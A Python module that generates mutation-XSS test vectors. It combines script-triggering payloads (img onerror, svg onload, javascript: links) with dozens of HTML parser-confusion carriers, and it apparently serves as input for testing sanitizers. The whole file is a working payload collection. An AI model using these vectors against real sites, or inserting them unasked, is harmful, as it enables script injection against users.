"""HTML that a browser parses in another way the second time (mXSS): the known classes, each with several payloads.

Written here from the rules of the HTML standard that make them possible, and copied from no collection.
"""

from __future__ import annotations

from itertools import product

# What must not come to life; each would call `fired` where scripts may run.
PAYLOADS = {
    "image": "<img src=x onerror=fired()>",
    "svg": "<svg onload=fired()></svg>",
    "script": "<script>fired()</script>",
    "link": '<a href="javascript:fired()" autofocus onfocus=fired() tabindex=1>x</a>',
    "details": "<details open ontoggle=fired()>x</details>",
    "upper case": "<IMG/SRC=x\nONERROR=fired()//>",
    "entities": "&lt;img src=x onerror=fired()&gt;",
    "entities twice": "&amp;lt;img src=x onerror=fired()&amp;gt;",
}
# Where a parser and its successor differ about what is text: `{}` is the payload.
CARRIERS = {
    # An attribute's value is text for the first parser and a tag once its element is raw text or a comment.
    "title of style": '<style><a title="</style>{}">',
    "title of noscript": '<noscript><p title="</noscript>{}">',
    "title of textarea": '<textarea><p title="</textarea>{}">',
    "title of title": '<title><p title="</title>{}">',
    "title of xmp": '<xmp><p title="</xmp>{}">',
    "title of noembed": '<noembed><p title="</noembed>{}">',
    "title of noframes": '<noframes><p title="</noframes>{}">',
    "title of iframe": '<iframe><p title="</iframe>{}">',
    "title of template": '<template><p title="</template>{}">',
    "title of plaintext": '<plaintext><p title="</plaintext>{}">',
    "title of comment": '<!--<p title="-->{}">',
    # Ends of comments that not every parser knows.
    "comment --!>": "<!-- a --!>{}-->",
    "comment <!-->": "<!-->{}-->",
    "comment <!--->": "<!--->{}-->",
    "comment <!--<!-->": "<!--<!-->{}-->",
    "bogus comment": "<!a>{}<!/a>",
    "processing instruction": "<?a>{}?>",
    "end tag as a comment": "</ a>{}",
    "CDATA": "<![CDATA[>{}]]>",
    "doctype": "<!doctype a [<!entity b '{}'>]>",
    # Foreign content: raw text elements are ordinary ones there, and come back as raw text in HTML.
    "style in svg": "<svg><style>{}</style></svg>",
    "style in math": "<math><style>{}</style></math>",
    "title in svg": "<svg><title>{}</title></svg>",
    "xmp in svg": "<svg><xmp>{}</xmp></svg>",
    "desc": "<svg><desc>{}</desc></svg>",
    "foreignObject": "<svg><foreignObject>{}</foreignObject></svg>",
    "annotation": '<math><annotation-xml encoding="text/html">{}</annotation-xml></math>',
    "annotation of svg": '<math><annotation-xml encoding="application/xhtml+xml"><svg>{}</svg></annotation-xml></math>',
    "CDATA in svg": "<svg><![CDATA[</svg>{}]]></svg>",
    "CDATA that ends": "<svg><p><![CDATA[<style>]]>{}</style></svg>",
    "p breaks out of svg": "<svg></p><style><a id='</style>{}'></svg>",
    "br breaks out of math": "<math></br><style><a id='</style>{}'></math>",
    "mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'></mglyph></table></mtext></math>",
    "malignmark": "<math><mtext><table><malignmark><style><!--</style><b title='--&gt;{}'></table></mtext></math>",
    "form in form in math": "<form><math><mtext></form><form><mglyph><style></math>{}</style></form></form>",
    "option": "<select><option><style></option></select>{}</style></select>",
    "font in svg": "<svg><font color=red><style><a title='</style>{}'></font></svg>",
    # Table rules move content, and formatting elements are made anew.
    "before the table": "<table><a title='</table>{}'><tr><td>x</table>",
    "caption": "<table><caption><table></caption>{}</table></table>",
    "colgroup": "<table><colgroup>{}<col></table>",
    "nested links": "<a href='https://a.example/'><table><a title='{}'></table></a>",
    "adoption": "<b><p><i></b></p>{}</i>",
    "deep": "<div>" * 190 + "<table><b title='{}'>" + "</div>" * 190,
    # Quotes and blanks of attributes.
    "backtick": "<b title=`{}`>x</b>",
    "no quote": "<b title={} x>x</b>",
    "slash": "<b/title='{}'/>x</b>",
    "equals": "<b =title='{}' ='x>x</b>",
    "form feed": "<b\ftitle='{}'\f>x</b>",
    "NUL": "<b\0title='{}\0'>x</b>",
    "duplicate": "<b title='a' title='{}'>x</b>",
    "alt": '<img src="cid:a" alt="{}">',
    "alt with a line break": '<img src="cid:a" alt="\n{}\n">',
    "style attribute": "<p style=\"font-family:'{}'\">x</p>",
    "style attribute with an escape": "<p style=\"font-family:'\\3c img src=x onerror=fired()\\3e {}'\">x</p>",
    "address": '<a href="https://a.example/?{}">x</a>',
    "cite": '<blockquote cite="https://a.example/{}">x</blockquote>',
    # Elements that a second parser ends elsewhere.
    "unknown element": "<a:b xmlns:a='http://www.w3.org/1999/xhtml' a:title='{}'>x</a:b>",
    "custom element": "<x-y is=script title='{}'>x</x-y>",
    "unclosed tag": "<b title='x'{}",
    "unclosed quote": "<b title='{}",
    "pre": "<pre>\n{}</pre>",
    "listing": "<listing>\n{}</listing>",
    "ruby": "<ruby><rt>{}<rp></ruby>",
    "as it is": "{}",
}
QUOTED = str.maketrans({'"': "&quot;", "'": "&#39;"})


def vectors() -> dict[str, str]:
    """Return every carrier with every payload, and again with the payload's quotes as entities."""
    made = {}
    for (carrier, text), (payload, code) in product(CARRIERS.items(), PAYLOADS.items()):
        made[f"{carrier}, {payload}"] = text.replace("{}", code)
        made[f"{carrier}, {payload}, quoted"] = text.replace("{}", code.translate(QUOTED))
    return made
